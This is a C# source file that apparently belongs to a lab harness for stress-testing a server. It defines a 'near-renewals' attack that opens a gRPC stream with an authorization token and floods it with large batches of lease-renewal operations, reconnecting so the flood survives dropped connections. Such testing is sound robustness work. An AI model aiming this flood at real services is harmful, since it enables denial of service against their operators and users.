namespace Larder.Lab.Peers.Attacks;

/// <summary>Opens a near stream and renews its lease as fast as the server reads.</summary>
internal sealed class NearRenewalAttack : IServerAttack
{
    private const int OpenField = 80, RenewField = 81;

    /// <summary>The size of the operations in a message, in bytes.</summary>
    private const int MessageBytes = 120_000;

    // The number of messages after which the attack opens a new connection. The attack therefore continues even if the server has closed the previous
    // connection.
    private const int MaxMessages = 1_000;

    private readonly byte[] _renewals;
    private readonly int _operations;

    /// <summary>Creates an attack whose message is built once.</summary>
    public NearRenewalAttack()
    {
        byte[] renewal = ProtoBytes.Operation(2, RenewField, []);
        _operations = MessageBytes / renewal.Length;
        _renewals = ProtoBytes.Framed(ProtoBytes.Repeat(renewal, _operations));
    }

    /// <inheritdoc/>
    public string Name => "near-renewals";

    /// <inheritdoc/>
    public string Description => "a near stream that continuously renews its lease";

    /// <summary>Gets the message, with gRPC's prefix.</summary>
    public ReadOnlyMemory<byte> Message => _renewals;

    /// <inheritdoc/>
    public async Task RunAsync(AttackTarget target, AttackCounts counts, CancellationToken stop)
    {
        await using AttackConnection connection = await AttackConnection.OpenAsync(target, counts, AttackConnection.OpenWindow, stop).ConfigureAwait(false);
        byte[] block = HeaderBlock.Of(PipelinedAttack.Path, isSecure: false, ("cache", target.Cache), ("authorization", target.Token));
        AttackStream stream = await connection.CallAsync(block, stop).ConfigureAwait(false);
        byte[] open = ProtoBytes.Framed(ProtoBytes.Operation(1, OpenField, []));
        bool isOpen = await connection.SendAsync(stream, open, isEnd: false, stop).ConfigureAwait(false);
        for (int message = 0; isOpen && message < MaxMessages; message++)
        {
            isOpen = await connection.SendAsync(stream, _renewals, isEnd: false, stop).ConfigureAwait(false);
            counts.AddRequests(_operations);
        }
    }
}
